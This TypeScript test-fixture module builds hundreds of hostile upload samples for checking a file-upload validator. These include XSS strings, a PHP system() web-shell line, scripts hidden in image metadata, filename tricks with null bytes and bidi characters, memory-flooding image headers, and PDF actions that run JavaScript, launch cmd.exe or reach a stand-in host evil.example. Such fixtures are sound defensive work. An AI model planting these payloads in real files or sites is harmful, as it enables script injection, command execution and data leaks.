import { extname } from 'node:path';
import { deflateSync } from 'node:zlib';
import { makePackedPdf, makePdf } from '@novosel/testing/uploads/make-pdf.ts';
import { bombs } from './bombs.ts';
import type { Sample } from './good-samples.ts';
import { closedPapers, lockedActing, lockedBombs } from './locked-samples.ts';
import { drawn, flat, pngChunk, withChunks, withComment, withSegment, zip } from './make-picture.ts';
import { spoilt } from './spoilt-samples.ts';
import { papersOfTwoReadings } from './two-readings.ts';

const page = '<html><script>alert(document.domain)</script></html>';
const scripts = [
  page,
  '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  '<img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<?php system($_GET[1]); ?>',
  '<?= `id` ?>',
  '<%@ page import="java.io.*" %>',
  '<!DOCTYPE html><body onload=alert(1)>',
  '<object data="data:text/html,<script>alert(1)</script>">',
];
const extensions = ['png', 'jpg', 'gif', 'pdf'] as const;

/** At least 300 files that lie about what they are, hide something, or break what opens them (promise 27). */
export async function hostileSamples(): Promise<readonly HostileSample[]> {
  const good = {
    png: await drawn().png().toBuffer(),
    jpg: await drawn().jpeg().toBuffer(),
    gif: await drawn().gif().toBuffer(),
    pdf: makePdf({ text: 'A'.repeat(2000) }),
  };
  const classes = {
    'another kind': otherKinds(),
    'wrong name': wrongNames(good),
    'cut off': cutOff(good),
    glued: glued(good),
    hidden: hidden(good),
    flood: await floods(good),
    bomb: bombs(good.png),
    spoilt: spoilt(good),
    acting: actingPapers(),
    leaving: leavingPapers(),
    locked: await closedPapers(),
    'locked and acting': await lockedActing(),
    'locked bomb': await lockedBombs(),
    'two readings': papersOfTwoReadings(),
  };
  return Object.entries(classes).flatMap(([name, samples]) =>
    samples.map((sample) => ({ ...sample, kind: `${name} ${extname(sample.name)}` })),
  );
}

export interface HostileSample extends Sample {
  /** What is wrong with it, and as what it comes. */
  readonly kind: string;
}

type Good = Readonly<Record<(typeof extensions)[number], Buffer>>;

/** Other files under names that are taken. */
function otherKinds(): Sample[] {
  const kinds: readonly (readonly [string, Buffer])[] = [
    ...scripts.map((script, i) => [`page ${i}`, Buffer.from(script)] as const),
    [
      'xml',
      Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>'),
    ],
    ['zip', zip()],
    ['exe', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(300, 1)])],
    ['elf', Buffer.concat([Buffer.from('\x7fELF', 'latin1'), Buffer.alloc(300, 1)])],
    ['webp', Buffer.from('RIFF\x24\0\0\0WEBPVP8 ', 'latin1')],
    ['bmp', Buffer.concat([Buffer.from('BM'), Buffer.alloc(60)])],
    ['tiff', Buffer.from('II*\0\x08\0\0\0', 'latin1')],
    ['script', Buffer.from('#!/bin/sh\nid')],
    ['nothing', Buffer.alloc(0)],
    ['zeros', Buffer.alloc(500)],
    ['signature alone', Buffer.from('\x89PNG\r\n\x1a\n', 'latin1')],
    ['postscript', Buffer.from('%!PS-Adobe-3.0\n/x { (id) run } def')],
  ];
  return kinds.flatMap(([kind, bytes]) =>
    extensions.map((extension) => ({ name: `${kind}.${extension}`, bytes })),
  );
}

function wrongNames(good: Good): Sample[] {
  const names = [
    ...['html', 'svg', 'php', 'exe', 'js', 'xhtml', 'txt', 'webp', 'pdf', ''].map((end) => `scan.${end}`),
    'scan.png.html',
    'scan.html.png',
    'scan.php.png',
    'scan.phtml.png',
    'scan.svg.png',
    'scan.exe.png',
    'scan.asp;.png',
    'scan.png\0.html',
    'scan.html\0.png',
    'scan.php%00.png',
    'sc\u0000an.png',
    'scan\u202egnp.html',
    'scan\u202Elmth.png',
    '\u2066scan\u2069.png',
    'scan\u200f.png',
    'scan\u200e.png',
    'a\u2028b.png',
    'a\u0007b.png',
    '\ufeffscan.png',
    'scan.jsp .png',
    'scan.jpg',
    'scan.gif',
  ];
  return names.map((name) => ({ name, bytes: good.png }));
}

/** Each kind cut off at many places. */
function cutOff(good: Good): Sample[] {
  return extensions.flatMap((extension) => {
    const whole = good[extension];
    // A PDF whose table alone is lost is whole to every viewer.
    const last = extension === 'pdf' ? whole.lastIndexOf('endobj') - 9 : whole.length - 9;
    return Array.from({ length: 16 }, (_, i) => {
      const end = Math.max(4, Math.floor(last * ((i + 1) / 16)));
      return { name: `cut ${i}.${extension}`, bytes: whole.subarray(0, end) };
    });
  });
}

/** Two files in one. */
function glued(good: Good): Sample[] {
  return extensions.flatMap((extension) => {
    const whole = good[extension];
    const behind = [
      ...scripts.map((script) => Buffer.from(script)),
      zip(whole.length),
      Buffer.from('Rar!\x1a\x07\0', 'latin1'),
      Buffer.from('MZ program'),
      makePdf({ text: 'behind' }),
    ];
    return [
      ...behind.map((more, i) => ({ name: `behind ${i}.${extension}`, bytes: Buffer.concat([whole, more]) })),
      ...scripts.slice(0, 3).map((script, i) => ({
        name: `before ${i}.${extension}`,
        bytes: Buffer.concat([Buffer.from(script), whole]),
      })),
      { name: `archive before.${extension}`, bytes: Buffer.concat([zip(), whole]) },
    ];
  });
}

/** Something that acts, in the places for words. */
function hidden({ png, jpg, gif }: Good): Sample[] {
  return [
    ...scripts.flatMap((script, i) => [
      { name: `words ${i}.png`, bytes: withChunks(png, pngChunk('tEXt', Buffer.from(`Comment\0${script}`))) },
      { name: `own chunk ${i}.png`, bytes: withChunks(png, pngChunk('heLo', Buffer.from(script))) },
      {
        name: `packed words ${i}.png`,
        bytes: withChunks(
          png,
          pngChunk('zTXt', Buffer.concat([Buffer.from('Comment\0\0'), deflateSync(Buffer.from(script))])),
        ),
      },
      { name: `comment ${i}.jpg`, bytes: withSegment(jpg, 0xfe, Buffer.from(script)) },
      {
        name: `camera ${i}.jpg`,
        bytes: withSegment(jpg, 0xe1, Buffer.from(`Exif\0\0MM\0*\0\0\0\x08${script}`)),
      },
      { name: `comment ${i}.gif`, bytes: withComment(gif, script) },
      { name: `wide comment ${i}.jpg`, bytes: withSegment(jpg, 0xfe, Buffer.from(script, 'utf16le')) },
    ]),
    { name: 'archive in a comment.gif', bytes: withComment(gif, zip().toString('latin1')) },
    { name: 'archive in a chunk.png', bytes: withChunks(png, pngChunk('heLo', zip())) },
    { name: 'archive in a comment.jpg', bytes: withSegment(jpg, 0xfe, zip()) },
    ...['=1;', '=1//', '/*', '//', '="', "='", '=`', '=\n1;'].map((size, i) => {
      const script = Buffer.from(gif);
      script.write(size, 6, 'latin1');
      return { name: `script ${i}.gif`, bytes: withComment(script, '*/=1;alert(1)//') };
    }),
    { name: 'bare script.gif', bytes: Buffer.from('GIF89a=1;alert(1)//;') },
  ];
}

/** Few bytes that want much memory. */
async function floods({ png, jpg, gif }: Good): Promise<Sample[]> {
  const sized = (width: number, height: number) => {
    const header = Buffer.alloc(13);
    header.writeUInt32BE(width, 0);
    header.writeUInt32BE(height, 4);
    header.set([8, 2, 0, 0, 0], 8);
    return Buffer.concat([png.subarray(0, 8), pngChunk('IHDR', header), png.subarray(33)]);
  };
  const wideJpeg = Buffer.from(jpg);
  const frame = wideJpeg.indexOf(Buffer.from([0xff, 0xc0]));
  wideJpeg.writeUInt16BE(65_535, frame + 5);
  wideJpeg.writeUInt16BE(65_535, frame + 7);
  const wideGif = Buffer.from(gif);
  wideGif.writeUInt16LE(65_535, 6);
  wideGif.writeUInt16LE(65_535, 8);
  return [
    ...[
      [40_000_001, 1],
      [65_535, 65_535],
      [2 ** 31 - 1, 1],
      [2 ** 31 - 1, 2 ** 31 - 1],
      [0, 80],
      [120, 0],
      [8001, 5000],
      [121, 80],
      [120, 8000],
    ].map(([width = 0, height = 0]) => ({ name: `${width} x ${height}.png`, bytes: sized(width, height) })),
    { name: 'flood.jpg', bytes: wideJpeg },
    { name: 'flood.gif', bytes: wideGif },
    { name: 'over 40 megapixels.jpg', bytes: await flat(8000, 5001).jpeg().toBuffer() },
    { name: 'over 40 megapixels.png', bytes: await flat(8000, 5001).png().toBuffer() },
    { name: '501 pages.pdf', bytes: makePdf({ pages: 501 }) },
  ];
}

/** Papers that do something, or carry something. */
function actingPapers(): Sample[] {
  const actions = [
    '<< /S /JavaScript /JS (app.alert(1)) >>',
    '<< /S /Java#53cript /J#53 (app.alert(1)) >>',
    '<< /S /Launch /F (cmd.exe) >>',
    '<< /S /SubmitForm /F (https://evil.example) >>',
    '<< /S /ImportData /F (x) >>',
    '<< /S /GoToE /F (x) >>',
    '<< /S /Rendition /JS (app.alert(1)) >>',
  ];
  return [
    ...actions.flatMap((action, i) => [
      { name: `opens ${i}.pdf`, bytes: makePdf({ catalog: '/OpenAction 9 0 R', objects: { 9: action } }) },
      { name: `page ${i}.pdf`, bytes: makePdf({ page: '/AA << /O 9 0 R >>', objects: { 9: action } }) },
      { name: `packed ${i}.pdf`, bytes: makePackedPdf('/OpenAction 4 0 R', [action]) },
    ]),
    {
      name: 'attachment.pdf',
      bytes: makePdf({
        catalog: '/Names << /EmbeddedFiles << /Names [(a.exe) 9 0 R] >> >>',
        objects: {
          9: '<< /Type /Filespec /F (a.exe) /EF << /F 10 0 R >> >>',
          10: '<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream',
        },
      }),
    },
    {
      name: 'form.pdf',
      bytes: makePdf({
        catalog: '/AcroForm << /XFA 9 0 R >>',
        objects: { 9: '<< /Length 0 >>\nstream\n\nendstream' },
      }),
    },
    {
      name: 'movie.pdf',
      bytes: makePdf({
        page: '/Annots [9 0 R]',
        objects: { 9: '<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>' },
      }),
    },
    ...scripts.map((script, i) => ({
      name: `page in a remark ${i}.pdf`,
      bytes: Buffer.from(makePdf().toString('latin1').replace('\n%', `\n%${script}%`), 'latin1'),
    })),
    ...scripts.map((script, i) => ({
      name: `page in an object ${i}.pdf`,
      bytes: makePdf({ objects: { 9: `(${script.replaceAll(/[()]/g, '')}<script>)` } }),
    })),
  ];
}

/** Papers that lead out of themselves without a press, or to another file or a place of a network by one. */
function leavingPapers(): Sample[] {
  const byThemselves = [
    '<< /S /URI /URI (https://evil.example/seen) >>',
    '<< /S /GoTo /D [20 0 R /Fit] /Next 10 0 R >>',
  ];
  const always = [
    '<< /S /GoToR /F (\\\\evil.example\\\\share\\\\a.pdf) /D [0 /Fit] >>',
    '<< /S /GoToR /F << /UF (//evil.example/a.pdf) >> >>',
    '<< /S /Thread /F (//evil.example/a.pdf) /D 0 >>',
    '<< /S /Movie /T (x) /F 11 0 R >>',
    '<< /S /URI /URI (file://evil.example/share) >>',
    '<< /S /URI /URI <66696C653A2F2F6576696C2E6578616D706C65> >>',
    '<< /S /URI /URI (\\\\evil.example\\\\share) >>',
    '<< /S /URI /URI 11 0 R >>',
    '<< /S /URI /URI (\\152avascript:1) >>',
  ];
  const more = { 10: '<< /S /URI /URI (https://evil.example) >>', 11: '(//evil.example/share)' };
  const link = (action: string) => ({
    page: '/Annots [12 0 R]',
    objects: { 9: action, 12: '<< /Type /Annot /Subtype /Link /Rect [0 0 90 20] /A 9 0 R >>', ...more },
  });
  return [
    ...[...byThemselves, ...always].flatMap((action, i) => [
      {
        name: `opens to ${i}.pdf`,
        bytes: makePdf({ catalog: '/OpenAction 9 0 R', objects: { 9: action, ...more } }),
      },
      { name: `opens within ${i}.pdf`, bytes: makePdf({ catalog: `/OpenAction ${action}`, objects: more }) },
      {
        name: `turns to ${i}.pdf`,
        bytes: makePdf({ page: '/AA << /O 9 0 R >>', objects: { 9: action, ...more } }),
      },
      {
        name: `packed, opens to ${i}.pdf`,
        bytes: makePackedPdf('/OpenAction 4 0 R', [action, more[10], more[11]]),
      },
    ]),
    ...always.map((action, i) => ({ name: `a press leads to ${i}.pdf`, bytes: makePdf(link(action)) })),
    { name: 'opens to nothing.pdf', bytes: makePdf({ catalog: '/OpenAction 99 0 R' }) },
    { name: 'base elsewhere.pdf', bytes: makePdf({ catalog: '/URI << /Base (file://evil.example/) >>' }) },
    {
      name: 'pixels elsewhere.pdf',
      bytes: makePdf({ objects: { 9: '<< /Length 0 /F (//evil.example/a) >>\nstream\n\nendstream' } }),
    },
    {
      name: 'an object within a stream.pdf',
      bytes: makePdf({ text: '9 0 obj << /S /URI /URI (file://evil.example) >> endobj' }),
    },
    {
      name: 'a remark in a number.pdf',
      bytes: makePdf({
        catalog: '/OpenAction 9 %x\n 0 R',
        objects: { 9: '<< /S /URI /URI (https://evil.example) >>' },
      }),
    },
  ];
}
